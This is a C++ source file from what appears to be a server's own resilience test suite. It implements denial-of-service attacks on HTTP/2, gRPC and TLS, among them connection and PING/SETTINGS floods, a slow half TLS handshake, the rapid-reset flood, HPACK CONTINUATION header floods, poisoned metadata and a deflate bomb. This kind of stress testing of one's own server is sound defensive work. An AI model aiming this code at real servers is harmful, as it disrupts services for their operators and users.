// Attacks on HTTP/2 and the layers below: frames, header blocks, handshakes and
// connections.
#include <atomic>
#include <chrono>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "tests/attack/attacks.h"
#include "tests/attack/requests.h"

namespace quantd::attack {
namespace {

using std::chrono::milliseconds;

void HoldBare(Assault& assault, Socket& socket) {
  std::string ignored;
  while (!assault.over() && socket.alive()) {
    socket.Receive(&ignored, milliseconds(100));
    ignored.clear();
  }
}

void ConnectionFlood(Assault& assault) {
  assault.OnBareConnections(200,
                            [&](Socket& socket) { HoldBare(assault, socket); });
}

// Keeps 600 idle, well-behaved connections.
void IdleConnections(Assault& assault) {
  assault.OnConnections(20, {}, [&](Http2Peer& first) {
    std::vector<std::unique_ptr<Http2Peer>> peers;
    while (!assault.over() && first.alive()) {
      if (peers.size() < 29) {
        auto peer = Http2Peer::Connect(assault.target(), {}, assault.end());
        if (peer != nullptr) peers.push_back(std::move(peer));
      } else {
        assault.Sleep(milliseconds(50));
      }
      for (const auto& peer : peers) peer->Pump();
      first.Pump();
      std::erase_if(peers, [](const auto& peer) { return !peer->alive(); });
    }
  });
}

// Makes connections with TLS handshakes and drops them at once.
void ConnectionChurn(Assault& assault) {
  assault.OnConnections(8, {}, [&](Http2Peer&) {
    while (!assault.over() &&
           Http2Peer::Connect(assault.target(), {}, assault.end()) != nullptr) {
      assault.Sleep(milliseconds(10));
    }
  });
}

// Sends `text` one byte at a time.
void SlowlySay(Assault& assault, std::string_view text) {
  assault.OnBareConnections(200, [&](Socket& socket) {
    for (const char& byte : text) {
      if (assault.over() || !socket.Send({&byte, 1})) return;
      assault.Sleep(milliseconds(500));
    }
    HoldBare(assault, socket);
  });
}

// Sends the head of a TLS record and of its ClientHello of 512 bytes.
void HalfHandshake(Assault& assault) {
  using namespace std::literals;
  SlowlySay(assault, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"sv);
}

// Opens calls without limit on a connection that has not acknowledged the
// server's SETTINGS. With `large`, each call has about 7.5 KiB of metadata,
// which costs 220 bytes to send: references of one byte to an HPACK table entry
// that counts 34 bytes.
void Unagreed(Assault& assault, bool windows, bool large) {
  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
  const std::string from_table(220, '\xbe');
  assault.OnConnections(
      4, {.acknowledge_settings = false}, [&](Http2Peer& peer) {
        const std::string block = peer.HeaderBlock(kQuantize);
        std::string first = large ? into_table : "";
        while (!assault.over() && peer.alive()) {
          std::string many;
          while (many.size() < (32 << 10)) {
            const uint32_t stream = peer.NextStream();
            const std::string all =
                block + std::exchange(first, "") + (large ? from_table : "");
            many += FrameHead(all.size(), kHeaders, kEndHeaders, stream) + all;
            if (!windows) continue;
            many += FrameHead(4, kWindowUpdate, kNone, stream) + Octets(1, 4);
          }
          peer.SendRaw(many);
          peer.Pump();
        }
      });
}

void UnagreedStreams(Assault& assault) { Unagreed(assault, false, false); }
void UnagreedWindows(Assault& assault) { Unagreed(assault, true, false); }
void UnagreedHeaders(Assault& assault) { Unagreed(assault, false, true); }

// CVE-2023-44487: streams that are reset at once cost the client little and
// count against no limit.
void ResetFlood(Assault& assault) {
  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
    while (!assault.over() && peer.alive()) {
      for (int i = 0; i < 100; ++i) peer.Reset(peer.Open(kQuantize));
      peer.Pump();
    }
  });
}

// Sends frames that require a reply or work, at full rate. Reads replies only
// if the habits say so.
void FloodOf(Assault& assault, const Habits& habits, const std::string& frame) {
  std::string many;
  while (many.size() < (32 << 10)) many += frame;
  assault.OnConnections(4, habits, [&](Http2Peer& peer) {
    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
  });
}

void PingFlood(Assault& assault) {
  FloodOf(assault, {.respect_windows = false, .read = false},
          FrameHead(8, kPing, kNone, 0) + Octets(0, 8));
}

// Alternates the window between 0 and a large size, with 200 open streams.
void SettingsFlood(Assault& assault) {
  std::string many;
  for (int i = 0; i < 500; ++i) {
    many += FrameHead(6, kSettings, kNone, 0) + Octets(4, 2) +
            Octets(i % 2 ? 0 : 1 << 20, 4);
  }
  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
    for (int i = 0; i < 200; ++i) peer.SendMessage(peer.Open(kWatch), "");
    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
  });
}

// Sends empty DATA frames, which use no window.
void EmptyFrames(Assault& assault) {
  assault.OnConnections(4, {}, [&](Http2Peer& peer) {
    const uint32_t stream = peer.Open(kQuantize);
    std::string many;
    for (int i = 0; i < 4096; ++i) many += FrameHead(0, kData, kNone, stream);
    while (!assault.over() && peer.SendRaw(many)) peer.Pump();
  });
}

// Never reads, and so never answers SETTINGS or PING: any other frame in the
// middle of a header block would end the connection.
constexpr Habits kMute = {.respect_windows = false, .read = false};

// CVE-2023-33953: the limit on a call's metadata is checked frame by frame, so
// a header block of many frames has no limit. An entry of the dynamic table
// costs a byte to send and dozens to store.
void EndlessHeaders(Assault& assault) {
  constexpr int kFieldsInFrame = 400;
  constexpr size_t kMostFrames = 4 * kMiB / kFieldsInFrame;
  const std::string into_table = std::string("\x40\x01") + "a" + "\x01" + "b";
  const std::string from_table(kFieldsInFrame, '\xbe');
  assault.OnConnections(4, kMute, [&](Http2Peer& peer) {
    const uint32_t stream = peer.NextStream();
    peer.SendFrame(kHeaders, kNone, stream,
                   peer.HeaderBlock(kCheck) + into_table);
    for (size_t i = 0; i < kMostFrames && !assault.over(); ++i) {
      if (!peer.SendFrame(kContinuation, kNone, stream, from_table)) return;
    }
    assault.Hold(peer);
  });
}

// CVE-2023-1428: values that cannot be converted back to text, followed by more
// metadata than allowed.
void PoisonedHeaders(Assault& assault) {
  const Metadata poisons = {{"grpclb_client_stats", "x"},
                            {"te", "x"},
                            {":scheme", "x"},
                            {"content-type", "x"},
                            {"grpc-timeout", "x"},
                            {"grpc-encoding", "x"},
                            {":method", "x"}};
  const std::string much(20000, 'x');
  std::atomic<size_t> next = 0;
  assault.OnConnections(1, {}, [&](Http2Peer& peer) {
    const auto& poison = poisons[next++ % poisons.size()];
    for (const char* path : {kCheck, kQuantize}) {
      peer.Open(path, {poison});
      peer.Pump(milliseconds(10));
    }
    // The block is larger than a frame.
    const std::string block = peer.HeaderBlock(kCheck, {poison, {"x", much}});
    const uint32_t stream = peer.NextStream();
    peer.SendFrame(kHeaders, kNone, stream, block.substr(0, 16384));
    peer.SendFrame(kContinuation, kEndHeaders, stream, block.substr(16384));
    peer.AwaitEnd(stream, milliseconds(20));
  });
}

// Returns a zlib stream of zeros with a ratio of 158: each match of 258 zeros
// takes 13 bits.
std::string DeflatedZeros(size_t bytes) {
  std::string stream("\x78\x01", 2);
  uint32_t bits = 0;
  int held = 0;
  const auto put = [&](uint32_t value, int count) {
    bits |= value << held;
    for (held += count; held >= 8; held -= 8, bits >>= 8) {
      stream.push_back(static_cast<char>(bits));
    }
  };
  put(0b011, 3);  // the last block, fixed codes
  // A literal zero. Huffman codes are packed starting with their most
  // significant bit, so these constants are reversed.
  put(0b00001100, 8);
  while (stream.size() < bytes) {
    put(0b10100011, 8);  // a match of 258 ...
    put(0, 5);           // ... at distance 1
  }
  return stream;
}

// Sends compressed messages although the server does not offer compression.
// gRPC would expand a message 158 times before it checks the length.
void CompressedZeros(Assault& assault) {
  const std::string bomb = DeflatedZeros(3 * kMiB);
  assault.OnConnections(2, {}, [&](Http2Peer& peer) {
    while (!assault.over() && peer.alive()) {
      for (const char* path : {kCheck, kQuantize}) {
        const uint32_t stream = peer.Open(
            path, {{"grpc-encoding", "deflate"},
                   {"quantd-request-bytes", std::to_string(bomb.size())}});
        peer.BeginMessage(stream, static_cast<uint32_t>(bomb.size()), true);
        peer.SendBody(stream, bomb);
        peer.EndStream(stream);
        peer.AwaitEnd(stream, milliseconds(2000));
      }
    }
  });
}

constexpr Attack kProtocolAttacks[] = {
    {.name = "connection_flood",
     .what = "200 silent connections, server limited to 64 file descriptors",
     .run = ConnectionFlood,
     .connections = 8,
     .call_bytes = 4 << 10,
     .descriptors = 64},
    {.name = "idle_connections",
     .what = "600 idle connections",
     .run = IdleConnections,
     .connections = 64,
     .call_bytes = 4 << 10},
    {.name = "connection_churn",
     .what = "800 connections a second, dropped at once",
     .run = ConnectionChurn,
     .connections = 8,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "half_handshake",
     .what = "200 beginnings of a TLS handshake",
     .run = HalfHandshake,
     .connections = 64,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "unagreed_streams",
     .what = "unlimited open calls, SETTINGS not acknowledged",
     .run = UnagreedStreams,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true,
     .moment = milliseconds(1000)},
    {.name = "unagreed_windows",
     .what = "the same with a WINDOW_UPDATE for each call",
     .run = UnagreedWindows,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "unagreed_headers",
     .what = "the same with 7.5 KiB of metadata for each call",
     .run = UnagreedHeaders,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "reset_flood",
     .what = "streams opened and reset at full rate",
     .run = ResetFlood,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "ping_flood",
     .what = "PING at full rate, answers not read",
     .run = PingFlood,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "settings_flood",
     .what = "SETTINGS at full rate over 4 x 200 streams",
     .run = SettingsFlood,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "empty_frames",
     .what = "empty DATA frames at full rate",
     .run = EmptyFrames,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "endless_headers",
     .what = "4 header blocks of 4 Mi indexed fields",
     .run = EndlessHeaders,
     .connections = 4,
     .call_bytes = 4 << 10,
     .by_strangers = true},
    {.name = "poisoned_headers",
     .what = "header values that cannot be decoded to text",
     .run = PoisonedHeaders,
     .moment = milliseconds(600)},
    {.name = "compressed_zeros",
     .what = "474 MiB in a compressed message of 3 MiB",
     .run = CompressedZeros,
     .connections = 2,
     .call_bytes = 4 * kMiB},
};

}  // namespace

std::span<const Attack> ProtocolAttacks() { return kProtocolAttacks; }

}  // namespace quantd::attack
